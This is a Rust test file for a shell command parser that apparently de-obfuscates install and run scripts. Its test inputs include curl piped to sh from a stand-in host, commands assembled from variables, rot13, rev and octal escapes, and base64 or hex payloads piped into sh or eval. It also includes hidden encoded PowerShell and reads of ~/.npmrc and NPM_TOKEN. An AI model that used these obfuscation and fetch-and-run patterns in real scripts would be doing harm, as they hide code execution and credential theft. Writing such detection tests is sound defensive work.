//! Command lines, and the commands that are read in them.

use super::*;

/// Commands as words joined by `·`; in front of a command, what it gets: `|` another's output, `"` a known text.
fn shown(script: &Script) -> Vec<String> {
    let show = |command: &Command| {
        let variables = command.variables.iter().map(|(name, value)| format!("{name}={value}"));
        let words: Vec<_> = variables.chain(command.words.iter().cloned()).collect();
        let input = match &command.input {
            Input::Own => "",
            Input::Pipe(_) => "|",
            Input::Text(_) => "\"",
        };
        let depth = script.lines[command.line as usize].depth as usize;
        let files = command.reads.iter().map(|file| format!(" <{file}"));
        let files: String = files
            .chain(command.writes.iter().map(|file| format!(" >{file}")))
            .collect();
        format!("{}{input}{}{files}", "+".repeat(depth), words.join("·"))
    };
    script.commands.iter().map(show).collect()
}

#[test]
fn words_and_what_joins_commands() {
    for (line, expected) in [
        ("node a.js", &["node·a.js"][..]),
        ("  node  'a b.js'  \"c d\" ", &["node·a b.js·c d"]),
        ("a && b || c; d & e\nf", &["a", "b", "c", "d", "e", "f"]),
        (
            "curl -s https://x.example.invalid/i | sh",
            &["curl·-s·https://x.example.invalid/i", "|sh"],
        ),
        ("NODE_ENV=x A=\"b c\" node a=b", &["NODE_ENV=x·A=b c·node·a=b"]),
        ("node -e \"require('./x')\"", &["node·-e·require('./x')"]),
        ("node -e \"a(\\\"b\\\")\"", &["node·-e·a(\"b\")"]),
        ("echo $(cat x | tr a b) y", &["cat·x", "|tr·a·b", "echo·…·y"]),
        ("echo \"a `whoami` b\"", &["whoami", "echo·a … b"]),
        ("(cd a && make) # comment", &["cd·a", "make"]),
        ("(cat a; cat b) | sh", &["cat·a", "cat·b", "|sh"]),
        ("cat a |\n  sh", &["cat·a", "|sh"]),
        ("cat a | tee b |& sh", &["cat·a", "|tee·b", "|sh"]),
        ("if [ -f x ]; then node y; fi", &["[·-f·x·]", "node·y"]),
        ("node a\\ b", &["node·a b"]),
        ("node \\\n  b", &["node·b"]),
        ("node \"C:\\x\\y.js\"", &["node·C:\\x\\y.js"]),
        ("a ''", &["a·"]),
        ("a '|' \"; b\" c\\;d", &["a·|·; b·c;d"]),
        ("'open", &["open"]),
        ("", &[]),
        (")))", &[]),
        ("X=1", &["X=1"]),
        ("a > /tmp/x 2>&1 < y", &["a <y >/tmp/x"]),
        ("a >>x 2>/dev/null", &["a >x >/dev/null"]),
        ("a &> x", &["a >x"]),
        ("echo 2>x", &["echo >x"]),
        (
            "{curl,-s,https://x.example.invalid/}",
            &["curl·-s·https://x.example.invalid/"],
        ),
        ("date +%Y-%m", &["date·+%Y-%m"]),
    ] {
        assert_eq!(shown(&read(line)), expected, "{line}");
    }
}

#[test]
fn what_is_put_together() {
    for (line, expected) in [
        ("A=cu; B=rl; $A$B x", &["A=cu", "B=rl", "curl·x"][..]),
        ("A='cu rl'; $A x", &["A=cu rl", "cu·rl·x"]),
        ("A='a b'; x \"$A\"", &["A=a b", "x·a b"]),
        ("curl${IFS}-s$IFS'x'", &["curl·-s·x"]),
        ("export A=b; node $A.js", &["export·A=b", "node·b.js"]),
        ("A=node; ${A:0:2} x", &["A=node", "no·x"]),
        ("cat ${HOME:0:1}etc", &["cat·/etc"]),
        ("cat $HOME/.npmrc", &["cat·~/.npmrc"]),
        ("x $UNKNOWN", &["x·…"]),
        ("x '$A'", &["x·$A"]),
        ("$'\\x63url' x", &["curl·x"]),
        ("c''u\"r\"l x", &["curl·x"]),
        ("c\\u\\r\\l x", &["curl·x"]),
        ("$(echo curl) x", &["echo·curl", "curl·x"]),
        ("$(printf '\\143\\165rl') x", &["printf·\\143\\165rl", "curl·x"]),
        ("`echo lruc | rev` x", &["echo·lruc", "\"rev", "curl·x"]),
        (
            "$(echo pheyy | tr n-za-m a-z) x",
            &["echo·pheyy", "\"tr·n-za-m·a-z", "curll·x"],
        ),
        ("echo %NPM_TOKEN%", &["echo·…"]),
        ("sh -c 'node b.js'", &["sh·-c·node b.js", "+node·b.js"]),
        (
            "bash -lc \"sh -c 'a; b'\"",
            &["bash·-lc·sh -c 'a; b'", "+sh·-c·a; b", "++a", "++b"],
        ),
        ("cmd /d /s /c \"a & b\"", &["cmd·/d·/s·/c·a & b", "+a", "+b"]),
        ("eval a '&&' b", &["eval·a·&&·b", "+a", "+b"]),
        ("sudo -u root env A=b timeout -s KILL 5 nohup a", &["A=b·a"]),
        ("env", &["env"]),
        ("cat x | xargs -n 1 curl -d", &["cat·x", "|curl·-d"]),
        (
            "find . -name x -exec rm -f {} \\;",
            &["find·.·-name·x·-exec·rm·-f·{}·;", "rm·-f·{}"],
        ),
        (
            "echo d2hvYW1p | base64 -d | sh",
            &["echo·d2hvYW1p", "\"base64·-d", "\"sh", "+whoami"],
        ),
        ("sh <<< 'whoami'", &["\"sh", "+whoami"]),
        (
            "base64 -D <<<d2hvYW1p | bash -",
            &["\"base64·-D", "\"bash·-", "+whoami"],
        ),
        ("sh <<END\na\nb\nEND\nc", &["\"sh", "+a", "+b", "c"]),
        (
            "eval \"$(echo 77686f616d69 | xxd -r -p)\"",
            &["echo·77686f616d69", "\"xxd·-r·-p", "eval·whoami", "+whoami"],
        ),
        (
            "echo d2hvYW1p | base64 -d > file",
            &["echo·d2hvYW1p", "\"base64·-d >file"],
        ),
        ("cat x | base64 -d | sh", &["cat·x", "|base64·-d", "|sh"]),
        ("bash <(curl x)", &["curl·x", "bash·/dev/fd/…"]),
        ("cat a | bash -s stable", &["cat·a", "|bash·-s·stable"]),
        ("echo a | bash -s stable", &["echo·a", "\"bash·-s·stable", "+a"]),
        ("echo 'a | sh'", &["echo·a | sh"]),
        ("sh script.sh <<< 'a'", &["\"sh·script.sh"]),
    ] {
        assert_eq!(shown(&read(line)), expected, "{line}");
    }
}

#[test]
fn code_of_other_languages() {
    let code = |line: &str| {
        let script = read(line);
        let found = script.commands.into_iter().find_map(|command| command.code);
        found.map(|code| (code.language, code.text, code.decoder))
    };
    let javascript = |text: &str| Some((Language::JavaScript, text.to_owned(), None));
    assert_eq!(code("node -e 'a()'"), javascript("a()"));
    assert_eq!(code("node --eval=b"), javascript("b"));
    assert_eq!(code("node --no-warnings -p c"), javascript("c"));
    assert_eq!(code("deno eval d"), javascript("d"));
    assert_eq!(
        code("node --import data:text/javascript,e"),
        javascript("data:text/javascript,e")
    );
    assert_eq!(code("echo 'f()' | node"), javascript("f()\n"));
    assert_eq!(code("echo node -e 'a()'"), None);
    assert_eq!(code("echo a | node script.js"), None);
    assert_eq!(
        code("echo YQ== | base64 -d | node -"),
        Some((Language::JavaScript, "a".to_owned(), Some("base64 -d")))
    );
    assert_eq!(
        code("powershell -nop -w hidden -enc YQBiAA=="),
        Some((Language::PowerShell, "ab".to_owned(), Some("-EncodedCommand")))
    );
    assert_eq!(
        code("powershell.exe -ExecutionPolicy Bypass -Command iwr x"),
        Some((Language::PowerShell, "iwr x".to_owned(), None))
    );
    assert_eq!(code("powershell -File x.ps1"), None);
    assert_eq!(
        code("python3 -c 'import os'"),
        Some((Language::Other, "import os".to_owned(), None))
    );
}

#[test]
fn where_a_text_was_decoded_and_what_stands_in_words() {
    let script = read("echo d2hvYW1p | base64 -d | sh");
    assert_eq!(script.lines[1].decoder, Some("base64 -d"));
    assert_eq!(script.lines[1].outer, Some(2));
    let script = read("A=$(cat x); curl -d \"$A\" -H $TOKEN y");
    let curl = script.commands.last().expect("a command");
    assert_eq!((&*curl.parts, &*curl.names), (&[0][..], &["TOKEN".to_owned()][..]));
    assert!(read("A=cu; ${A}rl x").commands[1].assembled);
    assert!(!read("curl $A").commands[0].assembled);
}

#[test]
fn hostile_lines_cost_linear_time() {
    for unit in [
        "$(",
        "`",
        "(",
        ")",
        "\"",
        "'",
        "a;",
        "|",
        "\\",
        "{ ",
        "${",
        "%",
        "<<",
        "<(",
        "A=$A$A;",
        "$'",
        "sh -c '",
        "eval ",
        "$A",
        "<<x\n",
        "printf %s ",
        "find -exec ",
    ] {
        assert!(read(&unit.repeat(100_000)).commands.len() <= 1000, "{unit}");
    }
}
